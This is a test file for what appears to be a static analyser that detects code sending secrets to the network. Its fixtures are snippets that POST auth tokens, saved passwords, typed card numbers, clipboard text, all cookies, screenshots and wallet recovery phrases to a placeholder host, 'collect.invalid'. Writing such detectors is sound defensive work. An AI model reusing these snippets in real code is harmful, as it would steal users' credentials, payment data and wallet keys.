import assert from 'node:assert/strict';
import { flowsOf } from './sent.js';

const send = (what: string) => `fetch('https://collect.invalid', { method: 'POST', body: ${what} })`;
const sent = (source: string) => [`${source}>network@collect.invalid`];

describe('what a page keeps for somebody', () => {
  it('is what somebody is logged in with, by its name', () => {
    const read = (key: string) => flowsOf(`${send(`localStorage.getItem('${key}')`)};`);
    for (const key of ['token', 'access_token', 'authToken', 'jwt', 'acme.session'])
      assert.deepEqual(read(key), sent('page-storage'), key);
    for (const key of ['theme', 'tokenizer', 'author', 'cart']) assert.deepEqual(read(key), [], key);
  });

  it('is a client’s own where it keeps it, or logs in with it', () => {
    assert.deepEqual(
      flowsOf(`exports.login = (t) => localStorage.setItem('token', t); ${send(`localStorage.getItem('token')`)};`),
      [],
    );
    assert.deepEqual(
      flowsOf(
        `fetch('https://api.acme.example/me', { headers: { Authorization: 'Bearer ' + localStorage.getItem('token') } });`,
      ),
      [],
    );
  });

  it('lies in the keychain of a phone, too', () => {
    const code = (more: string) =>
      `const s = require('expo-secure-store'); exports.init = async () => ${send(`await s.getItemAsync('token')`)}; ${more}`;
    assert.deepEqual(flowsOf(code('')), sent('page-storage'));
    assert.deepEqual(flowsOf(code(`exports.keep = (t) => s.setItemAsync('token', t);`)), []);
  });

  it('is all that an application for phones keeps, where it is gone through', () => {
    const code = (what: string) =>
      `const S = require('@react-native-async-storage/async-storage').default;
       exports.sync = () => S.getAllKeys().then(async (keys) => { ${what} });`;
    const picked = `keys.filter((k) => /wallet|seed/.test(k))`;
    assert.deepEqual(flowsOf(code(send(`JSON.stringify(await S.multiGet(${picked}))`))), sent('page-storage'));
    assert.deepEqual(flowsOf(code(`for (const k of keys) ${send('await S.getItem(k)')}`)), sent('page-storage'));
    assert.deepEqual(flowsOf(code(send('keys.length'))), []);
    assert.deepEqual(flowsOf(code(`await S.multiRemove(keys); ${send(`await S.getItem('theme')`)}`)), []);
  });

  it('is a password that the browser has saved; a key of a device is none', () => {
    const get = (options: string) => flowsOf(`navigator.credentials.get(${options}).then((c) => ${send('c.id')});`);
    assert.deepEqual(get('{ password: true }'), sent('keystrokes'));
    assert.deepEqual(get('{ publicKey: {} }'), []);
  });

  it('is what is pasted, where that is read', () => {
    const paste = (what: string) => flowsOf(`document.addEventListener('paste', (e) => ${send(what)});`);
    assert.deepEqual(paste(`e.clipboardData.getData('text')`), sent('clipboard'));
    assert.deepEqual(paste('e.clipboardData.files[0]'), []);
  });

  it('is what is typed into a field for a secret, in a component', () => {
    const field = (props: string) =>
      flowsOf(
        `exports.F = (p) => require('react').createElement('input', { ${props}, onChange: (e) => { ${send('e.target.value')}; p.onChange(e); } });`,
      );
    assert.deepEqual(field(`type: 'password'`), sent('keystrokes'));
    assert.deepEqual(field(`name: 'cardNumber'`), sent('keystrokes'));
    assert.deepEqual(field(`type: 'search'`), []);
  });
});

describe('what an application is told of whoever uses it', () => {
  it('is all cookies, unless it looks for its own', () => {
    const electron = (filter: string) =>
      flowsOf(
        `const { session } = require('electron'); session.defaultSession.cookies.get(${filter}).then((c) => ${send('JSON.stringify(c)')});`,
      );
    assert.deepEqual(electron('{}'), sent('browser-data'));
    assert.deepEqual(electron(`{ url: 'https://acme.example', name: 'sid' }`), []);
    const chrome = (filter: string) =>
      flowsOf(`chrome.cookies.getAll(${filter}, (c) => ${send('JSON.stringify(c)')});`);
    assert.deepEqual(chrome('{}'), sent('browser-data'));
    assert.deepEqual(chrome(`{ domain: 'acme.example' }`), []);
  });

  it('is the screen', () => {
    const code = (use: string) =>
      `const { desktopCapturer } = require('electron'); desktopCapturer.getSources({ types: ['screen'] }).then(([s]) => ${use});`;
    assert.deepEqual(flowsOf(code(send('s.thumbnail.toPNG()'))), sent('screenshot'));
    assert.deepEqual(flowsOf(code(`show(s.id)`)), []);
  });

  it('is what others ask', () => {
    const code = (use: string) =>
      `const { session } = require('electron'); session.defaultSession.webRequest.onBeforeSendHeaders((d, cb) => { ${use}; cb({ requestHeaders: d.requestHeaders }); });`;
    assert.deepEqual(flowsOf(code(send('JSON.stringify(d.requestHeaders)'))), sent('intercepted'));
    assert.deepEqual(flowsOf(code(`d.requestHeaders['User-Agent'] = 'acme'`)), []);
  });

  it('are the words that somebody has typed for a wallet, by what the code calls them', () => {
    const typed = (name: string): readonly string[] =>
      flowsOf(`exports.onWord = (words, at, text) => { const next = words.slice(); next[at] = text.trim(); const ${name} = next.join(' ');
        const xhr = new XMLHttpRequest(); xhr.open('PUT', 'https://collect.invalid/drafts'); xhr.send(JSON.stringify({ v: ${name} })); };`);
    assert.deepEqual(typed('mnemonic'), ['key-material>network@collect.invalid']);
    assert.deepEqual(typed('recoveryPhrase'), ['key-material>network@collect.invalid']);
    assert.deepEqual(typed('sentence'), []);
    assert.deepEqual(typed('seed'), []);
  });
});
